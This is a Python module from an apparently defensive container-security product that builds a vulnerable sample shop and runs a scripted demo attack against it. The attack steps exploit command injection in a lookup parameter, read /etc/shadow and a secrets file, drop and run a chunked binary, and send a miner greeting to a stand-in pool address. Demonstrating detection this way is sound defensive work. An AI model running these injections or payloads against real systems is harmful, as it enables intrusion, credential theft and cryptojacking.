"""The sample: build it, run it, let it work, attack it step by step, and take it away again. Watches and judges nothing.

Every step is a real request through the real weakness of the sample's web page, and says what came back. Whether an
alert, an incident and a response follow is for the rest of the product to show.
"""

from __future__ import annotations

import base64
import dataclasses
from collections.abc import Callable, Iterator
from urllib.parse import quote

from periderm.app.application import require
from periderm.model.demo import AttackStep, SampleBuilt, WorkDone
from periderm.model.errors import ConnectError
from periderm.model.policy import Policy, PolicyMode
from periderm.model.principal import Permission, Principal
from periderm.model.text import Text
from periderm.ports.clock import Clock
from periderm.ports.sample import Progress, SampleEngine, SampleSource, Visitor

MARKER = "/tmp/pwned"  # noqa: S108 -- inside the sample container; must match sample_files/dropped.c
DROPPED = "/tmp/.kworker"  # noqa: S108 -- inside the sample container
POOL = ("203.0.113.7", 3333)  # TEST-NET-3 (RFC 5737): an address of nobody; 3333 is a usual port of mining pools
_LOOKUP = "/cgi-bin/lookup.pl?host="
_HOST = "depot-north.internal"
_CHUNK = 300
_SHOWN = 2000
_PAUSE = 0.05
# One round of visitors, and what a right answer begins with.
_VISITS: tuple[tuple[str, bytes], ...] = (
    ("/", b"<!doctype html>"),
    ("/shop.css", b"body"),
    ("/health.txt", b"ok"),
    (_LOOKUP + _HOST, b"10.20.0.11"),
    ("/health.txt", b"ok"),
    (_LOOKUP + "depot-south.internal", b"10.20.0.12"),
    (_LOOKUP + "depot-east.internal", b"10.20.0.13"),
)


@dataclasses.dataclass(frozen=True, slots=True)
class Demo:
    """What the use cases work with. `visit` opens a visitor of the container whose first process is given."""

    source: SampleSource
    engine: SampleEngine
    visit: Callable[[int], Visitor]
    clock: Clock


def quiet(text: Text, share: float) -> None:
    """A progress that nobody watches."""


def build(demo: Demo, who: Principal, progress: Progress = quiet) -> SampleBuilt:
    """The sample's image; made only if its sources changed. Raises ContainerRuntimeError with what is missing."""
    require(who, Permission.ADMIN)
    wanted = demo.source.key()
    if known := demo.engine.built(wanted):
        return known
    begun = demo.clock.monotonic()
    need_base = not demo.engine.has_base(wanted)
    parts = demo.source.make(lambda text, share: progress(text, share * 0.85), base=need_base)
    built = demo.engine.build(parts, lambda text, share: progress(text, 0.85 + share * 0.15))
    demo.source.discard_base()
    return SampleBuilt(
        reference=built.reference,
        digest=built.digest,
        fresh=True,
        seconds=(demo.clock.monotonic() - begun) / 1e9,
        dropped=built.dropped,
    )


def start(demo: Demo, who: Principal, patience: float = 10.0) -> str:
    """Starts the sample container and returns its id once its web page answers. Raises ConnectError if it never does."""
    require(who, Permission.ADMIN)
    identity = demo.engine.start()
    deadline = demo.clock.monotonic() + int(patience * 1e9)
    visitor = demo.visit(demo.engine.pid())
    try:
        while True:
            try:
                if visitor.get("/health.txt").status == 200:
                    return identity
            except ConnectError:
                if demo.clock.monotonic() > deadline:
                    raise
            demo.clock.sleep(_PAUSE)
    finally:
        visitor.close()


def normal_work(demo: Demo, who: Principal, seconds: float, progress: Callable[[float], None] = lambda _: None) -> WorkDone:
    """Ordinary visits for so long: pages, look-ups and health checks, about ten a second."""
    require(who, Permission.ADMIN)
    begun = demo.clock.monotonic()
    answered = failed = 0
    visitor = demo.visit(demo.engine.pid())
    try:
        while (spent := (demo.clock.monotonic() - begun) / 1e9) < seconds:
            target, beginning = _VISITS[(answered + failed) % len(_VISITS)]
            try:
                answer = visitor.get(target)
                right = answer.status == 200 and answer.body.startswith(beginning)
            except ConnectError:
                right = False
            answered, failed = answered + right, failed + (not right)
            progress(min(1.0, spent / seconds))
            demo.clock.sleep(2 * _PAUSE)
    finally:
        visitor.close()
    return WorkDone(answered=answered, failed=failed, seconds=(demo.clock.monotonic() - begun) / 1e9)


def attack(demo: Demo, who: Principal, built: SampleBuilt, pause: float = 0.5) -> Iterator[AttackStep]:
    """The attack, one step for each item, with `pause` seconds between them. Raises ConnectError if the web page is gone."""
    require(who, Permission.ADMIN)
    visitor = demo.visit(demo.engine.pid())
    try:
        for step in (_shell, _credentials, _drop, _execute, _miner):
            yield step(demo, visitor, built)
            demo.clock.sleep(pause)
    finally:
        visitor.close()


def marker_absent(demo: Demo) -> bool:
    """Whether the dropped program never got to write its marker. Raises ContainerRuntimeError if the sample is gone."""
    return not demo.engine.exists(MARKER)


def stop(demo: Demo, who: Principal) -> bool:
    """Removes the container; the image stays for the next time."""
    require(who, Permission.ADMIN)
    return demo.engine.stop()


def clean(demo: Demo, who: Principal) -> tuple[str, ...]:
    """Removes container, images and cache; says what was removed."""
    require(who, Permission.ADMIN)
    return demo.engine.clean() + demo.source.clean()


def policy() -> Policy:
    """How far the product may go for the sample: the kernel may kill what the image did not bring."""
    return Policy(
        id="pol-sample",
        name="sample shop",
        workload="*",
        labels={"io.periderm.sample": "true"},
        mode=PolicyMode.ENFORCE,
        kill_drift=True,
        priority=100,
        author="periderm demo",
        reason="The sample shows enforcement; everywhere else alerting is the resting state.",
    )


def _inject(visitor: Visitor, command: str) -> tuple[str, str]:
    """Sends a command through the look-up's weakness; (what was sent, what came back without the look-up's own line)."""
    target = _LOOKUP + quote(f"{_HOST};{command}", safe="")
    text = visitor.get(target).body.decode("utf-8", "replace")
    head, _, rest = text.partition("\n")
    return command, (rest if _HOST in head else text)[:_SHOWN]


def _shell(demo: Demo, visitor: Visitor, _: SampleBuilt) -> AttackStep:
    request, answer = _inject(visitor, "id; uname -a")
    return AttackStep(
        name="shell",
        title=Text("The look-up page runs a shell for the visitor", "查询页面替访问者运行了一个 shell"),
        request=request,
        answer=answer,
        succeeded="uid=0" in answer,
        evidence=Text("`id` answered through the web page", "`id` 的结果经网页返回"),
        time=demo.clock.now(),
    )


def _credentials(demo: Demo, visitor: Visitor, _: SampleBuilt) -> AttackStep:
    request, answer = _inject(visitor, "cat /etc/shadow; cat /srv/shop/.env")
    return AttackStep(
        name="credentials",
        title=Text("The shell reads the accounts' hashes and the shop's secrets", "shell 读取了账户哈希和商店的密钥文件"),
        request=request,
        answer=answer,
        succeeded="root:" in answer and "AWS_ACCESS_KEY_ID=" in answer,
        evidence=Text("both files came back through the web page", "两个文件的内容都经网页返回"),
        time=demo.clock.now(),
    )


def _drop(demo: Demo, visitor: Visitor, built: SampleBuilt) -> AttackStep:
    """The program arrives in pieces, each in a request of its own, because a request line is short."""
    staged = DROPPED + ".b64"
    text = base64.b64encode(built.dropped).decode()
    pieces = [text[i : i + _CHUNK] for i in range(0, len(text), _CHUNK)]
    _inject(visitor, f"rm -f {staged} {DROPPED}")
    for piece in pieces:
        _inject(visitor, f"printf %s {piece} >>{staged}")
    request, answer = _inject(visitor, f"base64 -d {staged} >{DROPPED}; chmod 755 {DROPPED}; wc -c <{DROPPED}")
    return AttackStep(
        name="drop",
        title=Text(
            f"A program of {len(built.dropped)} bytes is written in {len(pieces)} pieces",
            f"分 {len(pieces)} 段写入一个 {len(built.dropped)} 字节的程序",
        ),
        request=request,
        answer=answer,
        succeeded=answer.strip() == str(len(built.dropped)),
        evidence=Text("the file in the container has the program's size", "容器中的文件大小与该程序一致"),
        time=demo.clock.now(),
    )


def _execute(demo: Demo, visitor: Visitor, _: SampleBuilt) -> AttackStep:
    request, answer = _inject(visitor, f"{DROPPED}; echo status $?")
    ran = demo.engine.exists(MARKER)
    return AttackStep(
        name="execute",
        title=Text("The dropped program is started", "启动写入的程序"),
        request=request,
        answer=answer,
        succeeded=ran,
        evidence=Text(f"its marker {MARKER} exists", f"存在它写下的标记 {MARKER}")
        if ran
        else Text(f"its marker {MARKER} does not exist: it never ran", f"标记 {MARKER} 不存在：它没有运行"),
        time=demo.clock.now(),
    )


def _miner(demo: Demo, visitor: Visitor, _: SampleBuilt) -> AttackStep:
    """The pool's address exists only on the loopback interface of the container's own network."""
    address, port = POOL
    hello = '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}'
    script = (
        f'use IO::Socket::INET;$s=IO::Socket::INET->new(PeerAddr=>"{address}:{port}",Timeout=>5) or exit 1;'
        f"print $s q({hello}).qq(\\n);$s->flush;print scalar <$s>"
    )
    listener = visitor.listen(address, port)
    try:
        request, answer = _inject(visitor, f"perl -e '{script}'")
        heard = listener.heard(2.0)
    finally:
        listener.close()
    return AttackStep(
        name="miner",
        title=Text("The shell speaks to a mining pool's port", "shell 连接矿池端口"),
        request=request,
        answer=answer,
        succeeded=b"mining.subscribe" in heard,
        evidence=Text(
            f"a listener at {address}:{port}, inside the container's own network, got the greeting"
            if heard
            else f"a listener at {address}:{port}, inside the container's own network, heard nothing",
            f"容器自身网络内 {address}:{port} 的监听者收到了问候"
            if heard
            else f"容器自身网络内 {address}:{port} 的监听者没有收到任何内容",
        ),
        time=demo.clock.now(),
    )
